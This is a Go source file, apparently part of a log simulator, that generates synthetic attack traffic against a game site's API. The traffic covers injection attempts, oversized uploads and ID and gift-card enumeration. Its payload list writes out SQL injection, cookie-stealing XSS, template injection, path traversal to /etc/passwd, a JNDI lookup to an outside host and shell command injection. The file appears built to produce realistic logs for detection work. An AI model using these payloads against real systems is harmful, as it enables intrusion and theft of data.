package main

import (
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// injection is an ordinary-looking signed-in session, reading the
// store, leaderboards, profiles and chat, in which a share of the
// requests carry a payload in a query value: player search, chat paging,
// store filters, leaderboard regions, profile fields.
func (w *world) injection(r *rand.Rand) {
	s := w.s
	start, end := w.span(r, 120, 600)
	d := w.foe(r, "injection", start)
	if d.user == "" {
		d.user = s.user(r)
	}
	share := Uniform(r, 0.15, 0.4)
	raw := strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")
	pRaw, pOnce := Uniform(r, 0, 0.4), Uniform(r, 0.6, 1)
	lb := "/leaderboards/s" + strconv.Itoa(s.season) + "/" + s.mode(r).name
	d.get(d.api("/players/me"), 200, 2, 35)
	first := true
	for d.t < end {
		d.think(4)
		if !first && !Chance(r, share) {
			switch r.IntN(4) {
			case 0:
				d.get(d.api("/store/catalog?section=featured"), 200, 35, 80)
			case 1:
				d.get(d.api(lb+"?region="+s.regionTag+"&page=1"), 200, 6, 90)
			case 2:
				d.get(d.api("/players/search?name="+gamertag(r)), 200, 1.5, 80)
			default:
				d.get(d.api("/players/"+s.user(r)+"/profile"), 200, 3, 40)
			}
			continue
		}
		first = false
		p := EncodeQuery(r, Pick(r, payloads[r.IntN(len(payloads))]), raw, pRaw, pOnce)
		var path string
		switch r.IntN(6) {
		case 0:
			path = "/players/search?name=" + p
		case 1:
			path = "/chat/channels/dm-" + s.user(r) + "/messages?after=" + p
		case 2:
			path = "/store/catalog?section=" + p + "&platform=win64"
		case 3:
			path = lb + "?region=" + p + "&page=1"
		case 4:
			path = "/players/" + s.user(r) + "/profile?fields=" + p
		default:
			path = "/news?lang=" + p
		}
		d.attack = true
		d.get(d.api(path), []int{400, 200, 500, 403}[Weighted(r, []float64{0.45, 0.4, 0.1, 0.05})], 1.5, 50)
		d.attack = false
	}
}

var payloads = [][]string{
	{"' OR '1'='1", "1' OR 1=1-- -", "' UNION SELECT NULL,NULL,version()-- -", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "1) OR (1=1", "admin'--"},
	{"<script>alert(1)</script>", `"><img src=x onerror=alert(document.cookie)>`, "<svg/onload=confirm(1)>", "javascript:alert(1)"},
	{"{{7*7}}", "${7*7}", "{{config.items()}}", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", `..\..\..\windows\win.ini`},
	{"${jndi:ldap://c2x9.oast.live/a}", "; cat /etc/passwd", "| id", "{\"$ne\": null}", "[$ne]=1"},
}

// upload is a signed-in account sending files of 10 to 80 MB a few times
// a minute to the routes that take replays, custom maps and screenshots;
// those over the site's limit are cut off early with 413.
func (w *world) upload(r *rand.Rand) {
	s := w.s
	start, end := w.span(r, 180, 600)
	d := w.foe(r, "upload", start, "python-requests/2.32.3", "curl/8.5.0")
	if d.user == "" {
		d.user = s.user(r)
	}
	route := Pick(r, []string{"/replays?match=", "/maps/custom?draft=", "/players/me/screenshots?match="})
	mbps := LogUniform(r, 4, 40)
	for first := true; d.t < end; first = false {
		if !first {
			d.pause(6, 30)
			if Chance(r, 0.2) {
				d.get(d.api("/players/me/uploads?limit=20"), 200, 2, 40)
				d.pause(1, 4)
			}
		}
		size := int64(Uniform(r, 10, 80) * (1 << 20))
		path := d.api(route + strconv.Itoa(w.matches-r.IntN(20000)))
		if strings.Contains(route, "draft") {
			path = d.api(route + Hex(r, 12))
		}
		d.attack = true
		if size > s.uploadLimit {
			part := int64(Uniform(r, 64<<10, 2<<20))
			d.send("POST", path, 413, part, kb(r, 0.2), 1000*float64(part)/(1<<20)/mbps)
		} else {
			d.send("POST", path, Pick(r, []int{201, 201, 422}), size, kb(r, 0.3), 1000*float64(size)/(1<<20)/mbps)
		}
		d.attack = false
	}
}

// enumeration walks ids from a starting point: players' private
// inventories and match histories (most refused, a few missing, some
// leaking through a route that forgets to check), or gift cards by
// number (nearly all missing, a few belonging to others).
func (w *world) enumeration(r *rand.Rand) {
	s := w.s
	start, end := w.span(r, 120, 540)
	d := w.foe(r, "enumeration", start, "python-requests/2.32.3", "PostmanRuntime/7.42.0")
	if d.user == "" {
		d.user = s.user(r)
	}
	id := s.userBase + r.IntN(s.users)
	step := 1
	if Chance(r, 0.35) {
		step = 1 + r.IntN(9)
	}
	gift := Chance(r, 0.35)
	if gift {
		id = 700000000 + r.IntN(90000000)
	}
	route := Pick(r, []string{"/inventory", "/matches?limit=50", "/wallet"})
	leak := Uniform(r, 0.02, 0.2)
	rate := LogUniform(r, 0.7, 6)
	d.attack = true
	for d.t = start; d.t < end; d.t += Sec(r.ExpFloat64() / rate) {
		id += step
		x := r.Float64()
		if gift {
			d.get(d.api("/giftcards/"+strconv.Itoa(id)), []int{404, 403, 200}[Weighted(r, []float64{0.9, 0.08, 0.02})], 0.2, 25)
			continue
		}
		switch {
		case x < leak:
			d.get(d.api("/players/"+strconv.Itoa(id)+route), 200, 20, 60)
		case x < 0.85:
			d.get(d.api("/players/"+strconv.Itoa(id)+route), 403, 0.1, 20)
		default:
			d.get(d.api("/players/"+strconv.Itoa(id)+route), 404, 0.1, 15)
		}
	}
}
